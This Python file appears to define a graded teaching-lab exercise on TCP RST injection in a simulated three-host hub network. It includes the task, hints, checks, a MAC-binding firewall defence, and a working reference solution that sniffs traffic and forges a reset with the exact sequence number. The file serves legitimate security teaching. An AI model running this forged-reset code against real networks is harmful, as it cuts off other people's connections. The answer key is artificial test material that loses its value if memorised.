"""Exercise 15: RST injection: the one right sequence number (RFC 9293, section 3.10.7.4; RFC 5961, section 3)."""

from __future__ import annotations

import socket
from collections.abc import Callable, Generator
from typing import Any

from rawkit.errors import TimedOut
from rawkit.lab import Check, Defence, Evidence, Exercise, Finding, Link, Prediction, Seed, Stage, Topology, Values, Wrong
from rawkit.lab import python, services
from rawkit.netns import Worker
from rawkit.wire import TCP

__all__ = ["EXERCISE"]

TASK = """
On your hub, `{alice}` has a TCP connection to port `{port}` of `{bob}`, and says something five times a second. End it with
**one** segment: a RST that says it comes from alice, with the one sequence number that bob takes. With another number
within bob's window, bob only asks back (a challenge ACK); three attempts are allowed.

Bob is at `{bob_mac}`.
"""

SOLUTION = """
import os
from rawkit import Ethernet, IPv4, TCP
from rawkit.link import PacketSocket

alice, bob, port = os.environ["LAB_ALICE"], os.environ["LAB_BOB"], int(os.environ["LAB_PORT"])
with PacketSocket("eth0", promiscuous=True, filter=f"tcp and src {alice} and dst {bob}") as link:
    while not (packet := link.receive(8).packet()).payload:
        pass
    heard = packet[TCP]
    reset = TCP(src_port=heard.src_port, dst_port=port, seq=heard.seq + len(packet.payload), flags="R", window=0)
    link.send(Ethernet(dst=os.environ["LAB_BOB_MAC"], src="02:00:00:00:00:99") / IPv4(src=alice, dst=bob) / reset)
"""

GUARD = "table ip guard {{ chain in {{ type filter hook input priority 0; ip saddr {alice} ether saddr != {mac} drop; }}; }}"


def values(seed: Seed) -> dict[str, Any]:
    """Three addresses, two MAC addresses, a port."""
    network = seed.network()
    addresses = {name: seed.address(network) for name in ("you", "alice", "bob")}
    return {**addresses, "bob_mac": seed.mac(), "_alice_mac": seed.mac(), "port": seed.port()}


def topology(v: Values) -> Topology:
    """Three hosts on a hub."""
    macs = {"you": None, "alice": v._alice_mac, "bob": v.bob_mac}
    return Topology([Link(name, "hub", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()], hubs=["hub"])


def talk(v: Values) -> Callable[[Worker], None]:
    """Alice: connected, she says something again and again, and reads what comes back."""

    def work(worker: Worker) -> None:
        with socket.create_connection((v.bob, v.port), 5) as connection:
            worker.cues.give("ready")
            for number in range(60):
                try:
                    connection.send(b"line %d\n" % number)
                    connection.recv(4096)
                    worker.cues.take(0.2)
                    return  # the other process has ended
                except TimedOut:
                    continue
                except OSError:
                    return

    return work


def scene(stage: Stage) -> Generator[None, None, None]:
    """The two talk until somebody ends it."""
    v = stage.values
    if stage.defended:
        stage.host("bob").add_rules(GUARD.format(alice=v.alice, mac=v._alice_mac))
    stage.act("bob", services.tcp_echo(v.port), ready=True)
    stage.act("alice", talk(v), ready=True)
    yield
    stage.wait_until(lambda: not established(stage.host("bob").state().sockets, v.port), seconds=0.5)


def established(sockets: Any, port: int) -> bool:
    """Whether a connection at that port is."""
    return any(each.state == "ESTABLISHED" and each.local.port == port for each in sockets)


def gone(e: Evidence) -> Finding:
    """Whether bob has no connection any more."""
    there = established(e.state("bob").sockets, e.values.port)
    return Finding(not there, "bob has no connection at its port", "it is still ESTABLISHED" if there else "it is gone")


def exact(e: Evidence) -> Finding:
    """Whether a RST has the sequence number that bob expected, which is the last that he acknowledged before it."""
    resets = e.wire.sent_by("you").ip(src=e.values.alice, dst=e.values.bob).tcp(dst_port=e.values.port).where("RST", is_reset)
    best = resets.saw()
    for one in resets:
        said = e.wire.ip(src=e.values.alice).tcp(dst_port=e.values.port, src_port=one.packet[TCP].src_port).sent_by("alice").before(one).last()
        if said is None:
            continue
        wanted = (said.packet[TCP].seq + len(said.packet.payload)) % 2**32
        best = e.wire.sent_by("you").where("RST", is_reset).tcp(seq=wanted).saw()
        if best:
            return best
    return best


def is_reset(packet: Any) -> bool:
    """Whether it is a TCP segment with RST."""
    return bool(packet[TCP].flags & 4)


EXERCISE = Exercise(
    name="rst-injection",
    number=15,
    level=3,
    title="RST injection: the one right sequence number",
    learnt="What protects a connection from a stranger's reset, and why it does not from one who listens.",
    values=values,
    topology=topology,
    scene=scene,
    task=TASK,
    prediction=Prediction(
        "A RST comes whose sequence number is one too high, but within the window. What does bob do? "
        "(reset, challenge ACK or nothing)",
        lambda _: "challenge ACK",
        "Only an exact match resets; others in the window are asked back (RFC 5961, section 3.2).",
    ),
    hints=(
        "Bob takes a reset only from where he expects the next byte. You hear every byte that alice sends.",
        "seq is alice's last seq and the length of what she sent with it. The ports are hers, too.",
        "seq is in bytes 38 to 41 of the frame, the flags in byte 47 (RST is 0x04), the source port in 34 and 35.",
    ),
    checks=[
        Check(
            "connected",
            "alice and bob were connected",
            lambda e: e.has_socket("bob", "ESTABLISHED", e.values.port, "before"),
        ),
        Check("exact", "you send bob a RST in alice's name, with the right sequence number", exact, "RFC 5961, section 3.2"),
        Check("gone", "bob's connection is gone", gone, "RFC 9293, section 3.10.7.4"),
        Check(
            "few",
            "you sent three resets at most",
            lambda e: Finding(
                (count := len(e.wire.sent_by("you").where("RST", is_reset))) <= 3, "three resets at most", f"{count} resets"
            ),
        ),
    ],
    defence=Defence("a rule at bob that takes alice's address from her MAC address only", "gone"),
    solution=python(SOLUTION),
    wrong=[
        Wrong(python(SOLUTION.replace("seq=heard.seq + len(packet.payload)", "seq=heard.seq + len(packet.payload) + 1")), "exact", "seq is"),
        Wrong(python(SOLUTION.replace("seq=heard.seq + len(packet.payload)", "seq=heard.seq")), "exact", "seq is"),
        Wrong(python(SOLUTION.replace("src_port=heard.src_port, dst_port=port", "src_port=port, dst_port=heard.src_port")), "exact", "dst_port is"),
    ],
)
